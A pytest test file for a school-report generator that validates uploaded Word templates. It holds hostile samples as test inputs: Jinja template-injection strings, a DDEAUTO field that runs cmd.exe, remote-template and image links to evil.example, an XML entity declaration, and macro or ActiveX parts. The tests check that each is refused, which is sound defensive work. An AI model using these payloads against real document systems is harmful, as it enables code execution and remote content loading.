"""A school's own template: what fits is used, what does not is told in one sentence."""

import time
from collections.abc import Callable
from dataclasses import replace
from functools import partial
from io import BytesIO
from zipfile import ZipFile

import pytest
from docx import Document
from docx.oxml import OxmlElement

from surveys.apart import apart
from surveys.people.archive import MAX_BYTES
from surveys.people.sheet import MEMORY
from surveys.report import render, writer
from surveys.report.check import Fits, Refused, check, fits
from surveys.report.material import Material
from surveys.report.template import default_template
from tests.guard import hostile
from tests.report.conftest import random_school
from tests.report.papers import saved, school_paper
from tests.report.reading import read

MADE = random_school(7)


@pytest.fixture(autouse=True)
def no_pictures(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(writer, "draw", lambda plate: None)


def with_relation(relation: str) -> bytes:
    name = "word/_rels/document.xml.rels"
    content = school_paper()
    with ZipFile(BytesIO(content)) as packed:
        part = packed.read(name).decode()
    part = part.replace("</Relationships>", f"{relation}</Relationships>")
    return hostile.with_part(content, name, part.encode())


def outside(kind: str) -> bytes:
    return with_relation(
        '<Relationship Id="rX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/{kind}" Target="http://evil.example/x" TargetMode="External"/>'
    )


def in_foot(field: str) -> bytes:
    document = Document(BytesIO(school_paper()))
    document.sections[0].footer.paragraphs[0].text = field
    return saved(document)


def instructed(*pieces: str) -> bytes:
    """A field of Word, in as many runs."""
    document = Document(BytesIO(school_paper()))
    paragraph = document.add_paragraph()
    for piece in pieces:
        code = OxmlElement("w:instrText")
        code.text = piece
        paragraph.add_run()._r.append(code)
    return saved(document)


def laughing() -> bytes:
    content = school_paper()
    with ZipFile(BytesIO(content)) as packed:
        part = packed.read("word/document.xml").decode()
    _, _, rest = part.partition("?>")
    bomb = '<!DOCTYPE w [<!ENTITY a "lol">]>'
    return hostile.with_part(content, "word/document.xml", (bomb + rest).encode())


def said(content: bytes, made: Material = MADE) -> str:
    found = fits(content, "отчёт.docx", made)
    assert isinstance(found, Refused), found
    assert "\n" not in found.reason
    return found.reason


def test_the_bots_own_template_fits() -> None:
    assert fits(default_template(), "образец.docx", MADE) == Fits(())


def test_a_schools_paper_keeps_its_words_and_gets_the_figures() -> None:
    content = school_paper("Подпись директора")
    found = fits(content, "отчёт.docx", MADE)
    assert isinstance(found, Fits)
    assert "календарь" in found.left_out
    made = read(render.report(MADE, content))
    assert "Отчёт школы № 7" in made.text
    assert "Подпись директора" in made.text
    assert f"Здесь школа: {MADE.programme.school}" in made.text
    assert made.table("Участники программы")
    assert made.text.index("Здесь участники") < made.text.index("Таблица 1.")


def test_a_field_in_a_foot_note_of_the_page_is_a_text() -> None:
    made = read(render.report(MADE, in_foot("{{ школа }}, {{ учебный_год }}")))
    assert MADE.programme.school in made.document.sections[0].footer.paragraphs[0].text


def test_a_field_broken_by_the_spelling_checker_is_whole_again() -> None:
    document = Document(BytesIO(school_paper()))
    paragraph = document.add_paragraph()
    for piece in ("{", "{ кура", "тор }", "}"):
        paragraph.add_run(piece).bold = True
    assert "Мария Ивановна" in read(render.report(MADE, saved(document))).text


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        ("{{ ростт }}", "такого поля нет: «ростт» (может быть, «рост»?)"),
        ("{{ цифры }} и {{ школ }}", "таких полей нет: «цифры», «школ» (может быть, «школа»?)"),
        ("{{ рост", "не получилось прочитать поле"),
        ("{{ ''.__class__.__mro__ }}", "только имена полей"),
        ("{{ школа.__init__ }}", "только имена полей"),
        ("{{ школа|attr('x') }}", "только имена полей"),
        ("{{ 'а' * 10000000000 }}", "только имена полей"),
        ("{{ range(10) }}", "только имена полей"),
        ("{% for a in школа %}{% endfor %}", "только имена полей"),
        (
            "{% for a in range(99999) %}{% for b in range(99999) %}.{% endfor %}{% endfor %}",
            "только",
        ),
        ("{% include 'x' %}", "только имена полей"),
        ("{% set x = 1 %}", "только имена полей"),
        ("{% macro x() %}{% endmacro %}", "только имена полей"),
    ],
)
def test_only_names_of_fields(line: str, reason: str) -> None:
    began = time.monotonic()
    assert reason in said(school_paper(line))
    assert time.monotonic() - began < 10


def test_the_same_holds_in_the_foot_of_a_page() -> None:
    assert "только имена полей" in said(in_foot("{{ ''.__class__ }}"))
    assert "поле «рост» нельзя ставить в колонтитул" in said(in_foot("{{ рост }}"))


def test_missing_fields_are_named() -> None:
    document = Document()
    document.add_paragraph("{{ школа }} {{ учебный_год }} {{ участники }} {{ ход_программы }}")
    assert "не хватает полей «рост», «ожидания», «показатели»" in said(saved(document))


KINDS: dict[Callable[[], bytes], str] = {
    lambda: b"": "файл пустой",
    lambda: bytes(MAX_BYTES + 1): "файл больше 5 МБ",
    lambda: b"\x89PNG" + bytes(100): "это не документ .docx",
    "Отчёт {{ рост }}".encode: "это не документ .docx",
    lambda: hostile.table(hostile.ANNA): "это не документ .docx",
    lambda: hostile.with_part(
        school_paper(), "word/media/x.bmp", bytes(12_000_000)
    ): "слишком большой",
    lambda: hostile.with_part(school_paper(), "word/vbaProject.bin", b"x"): "макросы",
    lambda: hostile.with_part(school_paper(), "word/activeX/activeX1.xml", b"<x/>"): "макросы",
    lambda: hostile.with_part(school_paper(), "word/embeddings/a.xlsx", b"x"): "макросы",
    partial(outside, "attachedTemplate"): "подгружает что-то из других мест",
    partial(outside, "image"): "подгружает что-то из других мест",
    partial(
        with_relation, '<Relationship Id="rX" Type="x/aFChunk" Target="a.html"/>'
    ): "подгружает",
    partial(  # what a text looks for is not what a program reads
        with_relation,
        '<Relationship Id="rX" Type="x/image" Target="http://evil.example/hyperlink" '
        'TargetMode="External"/>',
    ): "подгружает",
    partial(
        with_relation,
        "<Relationship Id='rX' Type='x/image' Target='http://evil.example/' "
        "TargetMode='&#69;xternal'/>",
    ): "подгружает",
    partial(with_relation, '<Relationship Id="rX" Type="x/a&#70;Chunk" Target="a"/>'): "подгружает",
    partial(instructed, r" DDEAUTO c:\\windows\\cmd.exe '/k calc' "): "подгружает",
    partial(instructed, " INCLUDE", 'PICTURE "http://evil.example/x" '): "подгружает",
    laughing: "документ повреждён",
    lambda: hostile.with_part(school_paper(), "word/document.xml", b"<w:document"): "повреждён",
    lambda: school_paper()[:4_000]: "это не документ .docx",
    lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600): "старый формат",
}


@pytest.mark.parametrize(("make", "reason"), KINDS.items(), ids=range(len(KINDS)))
def test_a_file_that_is_no_template_gets_one_sentence(
    make: Callable[[], bytes], reason: str
) -> None:
    assert reason in said(make())


def test_a_link_that_a_reader_may_press_is_no_harm() -> None:
    assert isinstance(fits(outside("hyperlink"), "отчёт.docx", MADE), Fits)


@pytest.mark.parametrize("code", [" PAGE ", ' HYPERLINK "http://school.example/" ', " TOC \\o "])
def test_a_field_that_word_works_out_itself_is_no_harm(code: str) -> None:
    assert isinstance(fits(instructed(code), "отчёт.docx", MADE), Fits)


def test_fields_twice_in_a_table_and_without_styles() -> None:
    document = Document(BytesIO(school_paper("{{ рост }}", "{{ содержание }}")))
    document.add_table(rows=1, cols=1).rows[0].cells[0].text = "{{ школа }} {{ стороны }}"
    for name in ("Table Grid", "Caption", "TOC Heading"):
        for style in [one for one in document.styles if one.name == name]:
            style.delete()
    content = saved(document)
    assert isinstance(fits(content, "отчёт.docx", MADE), Fits)
    found = read(render.report(MADE, content))
    numbers = [number for number, _ in found.captions("Таблица")]
    assert numbers == list(range(1, len(numbers) + 1))


@pytest.mark.usefixtures("child")
async def test_in_a_process_of_its_own_with_bounds() -> None:
    work = partial(check, default_template(), "образец.docx", random_school(7))
    good = await apart(work, memory=MEMORY)
    assert good == Fits(())
    with pytest.raises(TimeoutError):
        await apart(partial(check, default_template(), "образец.docx", MADE), 0.05)


def test_a_name_of_the_school_is_never_read_as_a_field() -> None:
    programme = replace(MADE.programme, school="{{ рост }} {% for %}")
    found = read(render.report(replace(MADE, programme=programme), school_paper()))
    assert "{{ рост }} {% for %}" in found.text
